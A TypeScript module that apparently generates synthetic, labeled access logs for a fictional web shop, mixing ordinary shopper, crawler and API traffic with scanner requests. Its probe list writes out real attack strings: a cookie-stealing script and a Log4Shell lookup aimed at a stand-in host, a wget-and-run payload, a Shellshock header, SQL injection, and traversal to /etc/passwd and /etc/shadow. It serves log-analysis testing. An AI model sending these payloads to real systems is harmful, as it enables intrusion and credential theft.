import type { Random } from './random.ts';

/** One request as an access log has it. `hostile`: it looks for a hole, or uses one. */
export interface Request {
  readonly request: string;
  readonly status: number;
  readonly bytes: number;
  readonly referer: string;
  readonly agent: string;
  readonly hostile: boolean;
}

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36',
];
const CRAWLERS = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
];
const CLIENTS = ['shop-app/4.2.1 (Android 14)', 'python-requests/2.32.3', 'okhttp/4.12.0', 'Go-http-client/1.1'];
const SCANNERS = [
  'Mozilla/5.0 zgrab/0.x',
  'sqlmap/1.8.11#stable (https://sqlmap.org)',
  'Mozilla/5.0 (compatible; Nuclei - Open-source project)',
  '-',
  'curl/8.5.0',
];
const GOODS =
  'mug lamp chair notebook kettle backpack jacket boots tent bicycle helmet gloves keyboard monitor desk'.split(' ');
const WORDS = 'red small cheap wooden winter select union order summer drop-shoulder light <3kg 50% best new'.split(
  ' ',
);
const SITE = 'https://shop.example.com';
const ASSETS = [
  '/static/app.4f1c2b.js',
  '/static/site.9ad0e1.css',
  '/static/logo.svg',
  '/favicon.ico',
  '/static/inter.woff2',
];

/** Places that scanners try: found lists and known holes, in words of our own. */
const PROBES = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/xmlrpc.php',
  '/wp-admin/setup-config.php',
  '/phpmyadmin/index.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)',
  '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1',
  '/static/../../../../../../etc/passwd',
  '/download?file=..%2f..%2f..%2f..%2fetc%2fshadow',
  '/.%2e/.%2e/.%2e/.%2e/bin/sh',
  '/product?id=17%27%20UNION%20SELECT%20NULL,version(),NULL--%20-',
  "/product?id=17'+AND+SLEEP(5)--+",
  '/search?q=%3Cscript%3Efetch(%27//192.0.2.9/%27%2Bdocument.cookie)%3C/script%3E',
  '/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E',
  '/?x=$%7Bjndi:ldap://192.0.2.9:1389/a%7D',
  '/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/arm7;sh+arm7',
  '/actuator/env',
  '/solr/admin/info/system?wt=json',
  '/boaform/admin/formLogin?username=user&psd=user',
  '/backup.sql.gz',
];

function request(method: string, path: string, rest: Partial<Request>): Request {
  return {
    request: `${method} ${path} HTTP/1.1`,
    status: 200,
    bytes: 5120,
    referer: '-',
    agent: '-',
    hostile: false,
    ...rest,
  };
}

/** What kind of visitor an address is; it stays one for the whole log. */
export type Kind = 'shopper' | 'crawler' | 'client' | 'scanner';

/** `rank` is the address's place in Zipf order. The very busiest are crawlers and API clients, as they are in life. */
export function kindOf(random: Random, rank: number): Kind {
  const dice = random.next();
  if (rank < 12) return dice < 0.5 ? 'crawler' : 'client';
  if (dice < 0.04) return 'scanner';
  return dice < 0.06 ? 'crawler' : dice < 0.12 ? 'client' : 'shopper';
}

/** The next request of a visitor of this kind. `habit` keeps its user agent the same. */
export function nextRequest(random: Random, kind: Kind, habit: number): Request {
  if (kind === 'shopper') return shop(random, BROWSERS[habit % BROWSERS.length] as string);
  if (kind === 'crawler') return crawl(random, CRAWLERS[habit % CRAWLERS.length] as string);
  if (kind === 'client') return callApi(random, CLIENTS[habit % CLIENTS.length] as string);
  return scan(random, SCANNERS[habit % SCANNERS.length] as string);
}

function shop(random: Random, agent: string): Request {
  const dice = random.next();
  const page = `/product/${random.pick(GOODS)}-${random.between(1, 4000)}`;
  if (dice < 0.45) {
    const status = random.chance(0.3) ? 304 : 200;
    const bytes = status === 304 ? 0 : random.between(400, 220_000);
    return request('GET', random.pick(ASSETS), { agent, referer: `${SITE}${page}`, status, bytes });
  }
  if (dice < 0.7) return request('GET', page, { agent, referer: `${SITE}/`, bytes: random.between(8000, 60_000) });
  if (dice < 0.8) {
    const query = `${random.pick(WORDS)} ${random.pick(GOODS)}`;
    const path = `/search?q=${encodeURIComponent(query).replaceAll('%20', '+')}&page=${random.between(1, 4)}&sort=price_asc`;
    return request('GET', path, { agent, referer: `${SITE}/` });
  }
  if (dice < 0.86) return request('POST', '/cart/items', { agent, referer: `${SITE}${page}`, status: 303, bytes: 0 });
  if (dice < 0.88)
    return request('POST', '/login', { agent, referer: `${SITE}/login`, status: random.chance(0.1) ? 401 : 302 });
  if (dice < 0.9) return request('GET', `/old/${page}`, { agent, status: 404, bytes: 612 });
  const tracked = `/?utm_source=news&utm_medium=email&utm_campaign=week-${random.between(1, 52)}`;
  return request('GET', dice < 0.93 ? tracked : `/blog/${random.pick(GOODS)}-guide`, { agent });
}

function crawl(random: Random, agent: string): Request {
  if (random.chance(0.02)) return request('GET', '/robots.txt', { agent, bytes: 214 });
  const path = `/product/${random.pick(GOODS)}-${random.between(1, 4000)}?variant=${random.between(1, 9)}`;
  return request('GET', path, { agent, status: random.chance(0.04) ? 404 : 200 });
}

function callApi(random: Random, agent: string): Request {
  const order = `/api/v2/orders/${random.between(1e6, 9e6)}`;
  if (random.chance(0.2)) return request('POST', '/api/v2/orders', { agent, status: 201, bytes: 311 });
  if (random.chance(0.1))
    return request('PUT', `${order}?notify=true&fields=id,state,lines%5B%5D`, { agent, status: 204, bytes: 0 });
  const filter = '/api/v2/items?filter=price%3E10%20and%20stock%3C5&limit=50&cursor=eyJpZCI6MTAyNH0%3D';
  return request('GET', random.chance(0.5) ? order : filter, { agent, status: random.chance(0.02) ? 429 : 200 });
}

function scan(random: Random, agent: string): Request {
  const dice = random.next();
  if (dice < 0.03)
    return {
      ...request('GET', '/', { agent, status: 400, bytes: 150, hostile: true }),
      request: '\\x16\\x03\\x01\\x02\\x00',
    };
  if (dice < 0.06)
    return request('GET', '/', { agent: '() { :; }; /bin/bash -c "id"'.replaceAll('"', '\\"'), hostile: true });
  if (dice < 0.2) return request('GET', '/', { agent });
  const path = random.pick(PROBES);
  const method = random.chance(0.9) ? 'GET' : 'POST';
  // Pages that exist answer to any query; what does not exist is never found, so that the truth is an attack without effect.
  if (/^\/(?:search|product|\?)/.test(path)) return request(method, path, { agent, hostile: true });
  const status = random.chance(0.85) ? 404 : random.pick([301, 400, 403, 500]);
  return request(method, path, { agent, status, bytes: 564, hostile: true });
}
